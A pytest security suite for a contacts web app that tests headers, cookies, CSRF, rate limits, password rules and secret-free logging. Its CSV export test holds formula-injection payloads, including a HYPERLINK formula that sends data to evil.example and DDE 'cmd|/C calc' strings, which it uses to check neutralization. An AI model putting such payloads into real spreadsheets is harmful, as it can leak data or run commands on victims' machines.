"""Security properties: headers, cookies, size and rate limits, CSV injection, passwords, logs."""

from __future__ import annotations

import csv
import dataclasses
import io
import logging
import os
import re
import socket
import subprocess
import time
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from api.app import create_app
from api.routes import ROUTES
from api.security import MIN_PASSWORD_LENGTH
from tests.conftest import PASSWORD, make_user, sign_in

ROOT = Path(__file__).resolve().parents[2]
WEB = ROOT / "web"
KITH = str(ROOT / ".venv" / "bin" / "kith")
VCF = ROOT / "tests" / "data" / "import" / "iphone-3.0-jane-in-both-exports.vcf"


def custom_app(settings: Any, clock: Any, **changes: Any) -> Any:
    return create_app(
        dataclasses.replace(settings, **changes),
        clock,
        migrate_on_start=False,
        start_scheduler=False,
    )


def client_for(app: Any, base_url: str = "http://testserver") -> httpx.AsyncClient:
    return httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app, client=("127.0.0.1", 50000)), base_url=base_url
    )


def feed_path(info: dict[str, Any]) -> str:
    return "/" + str(info["https_url"]).split("://", 1)[1].split("/", 1)[1]


# -- response headers ---------------------------------------------------------------------


def check_security_headers(r: httpx.Response) -> None:
    csp = r.headers.get("content-security-policy", "")
    directives = {d.strip().split()[0]: d.strip().split()[1:] for d in csp.split(";") if d.strip()}
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts is not None, f"no script-src in CSP {csp!r}"
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, csp
    assert directives.get("frame-ancestors") == ["'none'"], csp
    assert directives.get("object-src") == ["'none'"], csp
    assert r.headers.get("x-content-type-options") == "nosniff"
    assert r.headers.get("referrer-policy") in {"no-referrer", "same-origin", "strict-origin"}


@pytest.fixture
async def feed_url(alice: Any) -> str:
    return feed_path((await alice.get("/api/feed")).json())


@pytest.mark.parametrize(
    ("kind", "path"),
    [
        ("html", "/"),
        ("html", "/index.html"),
        ("html", "/offline.html"),
        ("api", "/api/auth/me"),
        ("api", "/api/contacts"),
        ("api", "/api/today"),
        ("api", "/health"),
        ("feed", "FEED"),
    ],
)
async def test_html_api_and_feed_responses_carry_csp_nosniff_frame_ancestors_and_referrer_policy(
    alice: Any, client: Any, feed_url: str, kind: str, path: str
) -> None:
    r = await (client.get(feed_url) if path == "FEED" else alice.get(path))
    assert r.status_code == 200, r.text
    if kind == "html":
        assert r.headers["content-type"].startswith("text/html")
    check_security_headers(r)
    if kind == "feed":
        assert r.headers["referrer-policy"] == "no-referrer"
        assert r.headers.get("x-robots-tag") == "noindex"


HEADERS_BUG = (
    "BUG(api/app.py): security_headers is an after_request hook, which Litestar runs only for "
    "responses returned by handlers; error responses built by the exception handlers (401, 403, "
    "404, ...) go out without CSP, nosniff or Referrer-Policy. Fix: add the headers in a "
    "before_send hook (every http.response.start) or in _error/http_error too."
)


@pytest.mark.parametrize(
    "case", ["401 not signed in", "403 no csrf", "404 not found", "404 unknown feed token"]
)
async def test_error_responses_carry_the_same_security_headers(
    alice: Any, client: Any, case: str
) -> None:
    if case.startswith("401"):
        r = await client.get("/api/auth/me")
    elif case.startswith("403"):
        r = await alice.post("/api/contacts", json={"full_name": "x"}, headers={"x-csrftoken": ""})
    elif case == "404 not found":
        r = await alice.get("/api/contacts/987654")
    else:
        r = await client.get("/feed/" + "x" * 43 + "/kith.ics")
    assert r.status_code == int(case[:3]), r.text
    check_security_headers(r)


class _InlineFinder(HTMLParser):
    """Collects what a CSP without 'unsafe-inline' would block in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not values.get("src"):
                self.problems.append("inline <script>")
        if tag == "style":
            self.problems.append("inline <style>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= attribute on <{tag}>")
            if (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"javascript: URL in {name}= on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append("script body inline")


@pytest.mark.parametrize("page", sorted(p.name for p in WEB.glob("*.html")))
def test_the_pwa_pages_need_no_inline_script_or_style_so_the_csp_holds(page: str) -> None:
    finder = _InlineFinder()
    finder.feed((WEB / page).read_text(encoding="utf-8"))
    assert finder.problems == []


# -- cookies ------------------------------------------------------------------------------


def _cookie(r: httpx.Response, name: str) -> str:
    found = [c for c in r.headers.get_list("set-cookie") if c.startswith(f"{name}=")]
    assert found, f"no {name} cookie in {r.headers.get_list('set-cookie')}"
    return found[-1]


def _flags(cookie: str) -> set[str]:
    return {part.strip().lower() for part in cookie.split(";")[1:]}


async def test_the_session_cookie_is_httponly_samesite_lax_and_not_secure_on_plain_http(
    app: Any,
) -> None:
    await make_user("alice@example.com")
    async with client_for(app) as c:
        r = await c.post(
            "/api/auth/login", json={"email": "alice@example.com", "password": PASSWORD}
        )
        assert r.status_code == 200
        flags = _flags(_cookie(r, "kith_session"))
        assert "httponly" in flags and "samesite=lax" in flags and "path=/" in flags
        assert "secure" not in flags, "over plain http a Secure cookie would never come back"
        me = await c.get("/api/auth/me")
        csrf = _flags(_cookie(me, "csrftoken"))
        assert "httponly" not in csrf, "the PWA reads the CSRF cookie to send it back"
        assert "samesite=lax" in csrf


async def test_cookies_are_secure_when_the_base_url_is_https(clean_db: Any, clock: Any) -> None:
    app = custom_app(clean_db, clock, base_url="https://kith.example.com")
    await make_user("alice@example.com")
    async with client_for(app, "https://kith.example.com") as c:
        r = await c.post(
            "/api/auth/login", json={"email": "alice@example.com", "password": PASSWORD}
        )
        assert r.status_code == 200
        session = _flags(_cookie(r, "kith_session"))
        assert {"secure", "httponly", "samesite=lax"} <= session
        me = await c.get("/api/auth/me")
        assert me.status_code == 200
        assert {"secure", "samesite=lax"} <= _flags(_cookie(me, "csrftoken"))


async def test_a_planted_session_id_is_replaced_at_sign_in_and_dead_after_logout(
    app: Any,
) -> None:
    await make_user("alice@example.com")
    planted = {"cookie": "kith_session=planted-by-an-attacker"}
    login = {"email": "alice@example.com", "password": PASSWORD}
    async with client_for(app) as c:
        r = await c.post("/api/auth/login", json=login, headers=planted)
        assert r.status_code == 200
        issued = _cookie(r, "kith_session").split(";")[0].split("=", 1)[1]
        assert issued != "planted-by-an-attacker"
        async with client_for(app) as attacker:
            assert (await attacker.get("/api/auth/me", headers=planted)).status_code == 401
        await c.get("/api/auth/me")
        c.headers["x-csrftoken"] = str(c.cookies.get("csrftoken"))
        assert (await c.post("/api/auth/logout")).status_code == 200
    async with client_for(app) as replay:
        stolen = {"cookie": f"kith_session={issued}"}
        assert (await replay.get("/api/auth/me", headers=stolen)).status_code == 401


async def test_a_write_without_the_csrf_header_is_refused(alice: Any) -> None:
    r = await alice.post("/api/contacts", json={"full_name": "x"}, headers={"x-csrftoken": "nope"})
    assert r.status_code == 403
    assert (await alice.get("/api/contacts")).json()["total"] == 0


# -- size and rate limits -----------------------------------------------------------------


async def test_an_upload_over_the_limit_gets_413_with_a_clear_json_message(
    clean_db: Any, clock: Any
) -> None:
    app = custom_app(clean_db, clock, max_upload_bytes=1024 * 1024)
    await make_user("alice@example.com")
    async with client_for(app) as c:
        await sign_in(c, "alice@example.com")
        big = b"BEGIN:VCARD\r\n" + b"X" * (1024 * 1024 + 10)
        r = await c.post("/api/imports", files={"file": ("big.vcf", big, "text/vcard")})
        assert r.status_code == 413
        assert r.headers["content-type"].startswith("application/json")
        assert r.json() == {"error": "the upload is larger than the 1 MB limit"}
        ok = await c.post("/api/imports", files={"file": ("jane.vcf", VCF.read_bytes())})
        assert ok.status_code == 201, "a file under the limit still imports"
        runs = (await c.get("/api/imports")).json()
        assert len(runs) == 1, "the refused upload never started an import"


async def test_a_streamed_body_without_content_length_is_cut_off_at_the_limit(
    clean_db: Any, clock: Any
) -> None:
    app = custom_app(clean_db, clock, max_upload_bytes=256 * 1024)
    await make_user("alice@example.com")

    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"full_name": "'
        for _ in range(64):
            yield b"y" * 16384
        yield b'"}'

    async with client_for(app) as c:
        await sign_in(c, "alice@example.com")
        r = await c.post(
            "/api/contacts", content=chunks(), headers={"content-type": "application/json"}
        )
        assert r.status_code == 413, r.text
        assert (await c.get("/api/contacts")).json()["total"] == 0


async def test_sign_in_is_throttled_after_five_failures_even_with_the_right_password(
    app: Any,
) -> None:
    await make_user("alice@example.com")
    async with client_for(app) as c:
        for _ in range(5):
            r = await c.post(
                "/api/auth/login", json={"email": "alice@example.com", "password": "x"}
            )
            assert r.status_code == 401
        r = await c.post(
            "/api/auth/login", json={"email": "alice@example.com", "password": PASSWORD}
        )
        assert r.status_code == 429
        assert "try again in" in r.json()["error"]
        assert int(r.headers["retry-after"]) >= 1
        assert (await c.get("/api/auth/me")).status_code == 401, "a 429 never signs in"
        other = await c.post(
            "/api/auth/login", json={"email": "nobody@x.org", "password": "y" * 12}
        )
        assert other.status_code == 401, "another account from the same address is not held up"


async def test_imports_are_throttled_per_user_per_hour(clean_db: Any, clock: Any) -> None:
    app = custom_app(clean_db, clock, imports_per_hour=2)
    await make_user("alice@example.com")
    await make_user("bob@example.com")
    files = {"file": ("jane.vcf", VCF.read_bytes(), "text/vcard")}
    async with client_for(app) as alice, client_for(app) as bob:
        await sign_in(alice, "alice@example.com")
        await sign_in(bob, "bob@example.com")
        assert (await alice.post("/api/imports", files=files)).status_code == 201
        assert (await alice.post("/api/imports", files=files)).status_code == 201
        third = await alice.post("/api/imports", files=files)
        assert third.status_code == 429
        assert "too many imports" in third.json()["error"]
        assert (await bob.post("/api/imports", files=files)).status_code == 201
        assert len((await alice.get("/api/imports")).json()) == 2


# -- CSV export ---------------------------------------------------------------------------

HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "organization": "+1+cmd|' /C calc'!A0",
    "title": "-2+3",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "given_name": "=1+1",
    "family_name": "@x",
}


async def test_csv_export_neutralizes_formula_injection_in_every_cell(alice: Any) -> None:
    from api.services.export import export_csv
    from api.services.users import find_user

    r = await alice.post("/api/contacts", json={**HOSTILE, "phones": ["+1 415 555 0101"]})
    assert r.status_code in (200, 201), r.text
    await alice.post("/api/contacts", json={"full_name": "\tTabbed", "note": "\r=cr"})
    user = await find_user("alice@example.com")
    rows = list(csv.reader(io.StringIO(await export_csv(user.id))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 3
    for cell in cells:
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, f"live formula cell {cell!r}"
    for value in HOSTILE.values():
        assert "'" + value in cells, f"{value!r} is kept as text, only prefixed"
    assert "'+14155550101" in cells


# -- passwords ----------------------------------------------------------------------------


async def test_accounts_need_a_password_of_at_least_ten_characters(clean_db: Any) -> None:
    from api.errors import BadRequest
    from api.services.users import authenticate, create_user, find_user, set_password

    assert MIN_PASSWORD_LENGTH == 10
    with pytest.raises(BadRequest, match="at least 10 characters"):
        await create_user("short@example.com", "x" * 9)
    user = await create_user("ok@example.com", "x" * 10)
    with pytest.raises(BadRequest, match="at least 10 characters"):
        await set_password(user.id, "y" * 9)
    assert await authenticate("ok@example.com", "x" * 10) is not None
    await set_password(user.id, "z" * 10)
    assert await authenticate("ok@example.com", "z" * 10) is not None
    assert (await find_user("ok@example.com")).email == "ok@example.com"


def test_every_route_that_could_set_a_password_is_known() -> None:
    """Today passwords are set only by `kith user add`, services.users.set_password and the
    first-run form (/api/auth/setup, its short password refused in tests/api/test_setup.py). A
    new HTTP route that takes a password must enforce the minimum too: add it to this test with
    a check like test_accounts_need_a_password_of_at_least_ten_characters."""
    paths = {p for h in ROUTES for p in h.paths}
    suspicious = {p for p in paths if re.search(r"password|register|signup|setup|/users?\b", p)}
    checked = {"/api/auth/setup"}
    assert suspicious == checked, (
        f"new password-setting routes need a min-length test: {suspicious}"
    )


def test_kith_user_add_refuses_a_short_password_in_one_line(tmp_path: Path) -> None:
    env = {
        **os.environ,
        "KITH_DATABASE_URL": f"sqlite:///{tmp_path}/kith.sqlite3",
        "KITH_DATA_DIR": str(tmp_path / "data"),
        "KITH_PASSWORD": "short-pw9",
    }
    done = subprocess.run(
        [KITH, "user", "add", "me@example.com"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and "at least 10 characters" in done.stderr
    assert "Traceback" not in done.stderr


# -- secrets never reach the logs ---------------------------------------------------------

SECRET_PASSWORD = "Tr0ub4dor&3-only-in-this-test"


def _leaks(
    records: list[logging.LogRecord], secrets: list[str], skip: tuple[str, ...] = ()
) -> list[str]:
    """Records of the server side that mention a secret. The httpx/httpcore loggers belong to
    the test's own client (they would print the URL it requested), not to Kith."""
    found = []
    for rec in records:
        if rec.name.startswith(("httpx", "httpcore", *skip)):
            continue
        text = rec.getMessage() + (rec.exc_text or "") + repr(rec.args)
        found.extend(f"{rec.name}: {text[:200]}" for s in secrets if s in text)
    return found


async def test_passwords_tokens_and_session_ids_never_appear_in_logs(
    app: Any, client: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    await make_user("secret@example.com", SECRET_PASSWORD)
    async with client_for(app) as c:
        bad = await c.post(
            "/api/auth/login", json={"email": "secret@example.com", "password": "wrong-" + "p" * 9}
        )
        assert bad.status_code == 401
        assert (await sign_in(c, "secret@example.com", SECRET_PASSWORD)).status_code == 200
        session = c.cookies.get("kith_session")
        info = (await c.get("/api/feed")).json()
        path = feed_path(info)
        token = path.split("/")[2]
        assert (await client.get(path)).status_code == 200
        rotated = feed_path((await c.post("/api/feed/rotate")).json())
        assert (await client.get(path)).status_code == 404
        assert (await client.get(rotated)).status_code == 200
        upload = await c.post("/api/imports", files={"file": ("jane.vcf", VCF.read_bytes())})
        assert upload.status_code == 201
    logging.getLogger("kith.test").debug("canary")
    assert any(r.getMessage() == "canary" for r in caplog.records), "DEBUG records are captured"
    secrets = [SECRET_PASSWORD, "wrong-" + "p" * 9, token, rotated.split("/")[2]]
    assert _leaks(caplog.records, secrets) == []
    # The session id is a bearer secret too: it is stored (and so sent to the database, whose
    # driver's DEBUG log prints every SQL parameter) only as its SHA-256.
    assert _leaks(caplog.records, [str(session)]) == []


LOG_BUG = (
    "BUG(api/app.py internal_error): an unhandled error logs request.url.path, and for the "
    "feed that path is /feed/<secret token>/kith.ics. Fix: redact it, e.g. "
    "re.sub(r'^/feed/[^/]+/', '/feed/<token>/', request.url.path)."
)


async def test_a_crash_while_serving_the_feed_does_not_log_the_token(
    alice: Any, client: Any, feed_url: str, caplog: pytest.LogCaptureFixture, monkeypatch: Any
) -> None:
    from api.services import feed

    async def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("renderer exploded")

    monkeypatch.setattr(feed, "rendered_feed", broken)
    caplog.set_level(logging.DEBUG)
    r = await client.get(feed_url)
    assert r.status_code == 500
    assert "token" not in r.text and feed_url.split("/")[2] not in r.text
    assert any("renderer exploded" in (rec.exc_text or "") for rec in caplog.records)
    assert _leaks(caplog.records, [feed_url.split("/")[2]]) == []


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_kith_serve_prints_no_request_lines_so_the_feed_token_stays_out_of_its_output(
    tmp_path: Path,
) -> None:
    """uvicorn's access log would print `GET /feed/<token>/kith.ics`: `kith serve` turns it off."""
    port = _free_port()
    env = {
        **os.environ,
        "KITH_DATABASE_URL": f"sqlite:///{tmp_path}/kith.sqlite3",
        "KITH_DATA_DIR": str(tmp_path / "data"),
        "KITH_BASE_URL": f"http://127.0.0.1:{port}",
        "KITH_PORT": str(port),
        "KITH_RUN_SCHEDULER": "0",
        "KITH_PASSWORD": SECRET_PASSWORD,
    }
    run = {"env": env, "capture_output": True, "text": True, "timeout": 120}
    assert subprocess.run([KITH, "user", "add", "me@example.com"], **run).returncode == 0
    url = subprocess.run([KITH, "feed-url", "--user", "me@example.com"], **run).stdout.strip()
    token = url.split("/feed/")[1].split("/")[0]
    out_path = tmp_path / "serve.log"
    with out_path.open("wb") as out:
        proc = subprocess.Popen([KITH, "serve"], env=env, stdout=out, stderr=subprocess.STDOUT)
        try:
            base = env["KITH_BASE_URL"]
            deadline = time.monotonic() + 60
            while True:
                try:
                    if httpx.get(f"{base}/health", timeout=1).status_code == 200:
                        break
                except httpx.HTTPError:
                    pass
                assert time.monotonic() < deadline, "kith serve did not come up within 60 s"
                time.sleep(0.2)
            with httpx.Client(base_url=base) as c:
                login = {"email": "me@example.com", "password": SECRET_PASSWORD}
                assert c.post("/api/auth/login", json=login).status_code == 200
                assert c.get(url).status_code == 200
                assert c.get(f"/feed/{token[::-1]}/kith.ics").status_code == 404
                assert c.get("/api/contacts").status_code == 200
        finally:
            proc.terminate()
            proc.wait(timeout=30)
    output = out_path.read_text(errors="replace")
    assert "Kith is serving" in output, "the server's output was captured"
    assert token not in output and SECRET_PASSWORD not in output
    assert "GET /feed/" not in output and '"GET ' not in output, "no access-log lines at all"


# -- misc ---------------------------------------------------------------------------------


def test_the_generated_secret_key_file_is_readable_only_by_its_owner(tmp_path: Path) -> None:
    from api.settings import Settings

    settings = Settings(data_dir=tmp_path).with_secret()
    mode = (tmp_path / "secret_key").stat().st_mode & 0o777
    assert mode == 0o600, oct(mode)
    assert len(settings.secret_key) >= 43


async def test_a_signed_in_api_response_never_contains_the_password_hash(alice: Any) -> None:
    body = (await alice.get("/api/auth/me")).text
    assert "argon2" not in body and "password" not in body
